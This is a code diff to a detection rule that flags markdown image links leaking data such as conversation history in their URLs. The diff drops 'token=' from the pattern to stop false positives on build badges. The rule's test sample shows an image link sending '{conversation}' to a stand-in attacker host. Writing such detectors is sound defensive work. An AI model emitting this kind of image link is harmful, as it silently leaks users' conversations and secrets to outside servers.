@@ -27,13 +27,17 @@ export const LEAK_RULES: readonly Rule[] = [
     id: 'leak.exfiltrate-link',
     type: 'data_exfiltration',
     pattern:
-      '!\\[[^\\]\\n]*\\]\\(https?://[^)\\s]*[?&/][^)\\s]*(?:\\{|<|\\[|%7b|data=|q=|secret=|token=|prompt=|conversation=|history=)[^)\\n]*\\)',
+      '!\\[[^\\]\\n]*\\]\\(https?://[^)\\s]*[?&/][^)\\s]*(?:\\{|<|\\[|%7b|data=|q=|secret=|prompt=|conversation=|history=)[^)\\n]*\\)',
     keywords: ['!['],
     confidence: 0.8,
     reason: 'Carries data out in the address of an image.',
     output: true,
     match: ['![x](https://evil.example/log?data={conversation})'],
-    noMatch: ['![logo](https://example.com/logo.png)'],
+    // build badges carry a fixed token
+    noMatch: [
+      '![logo](https://example.com/logo.png)',
+      '![coverage](https://example.com/badge.svg?token=abc123)',
+    ],
   },
   {
     id: 'script.takes-data',
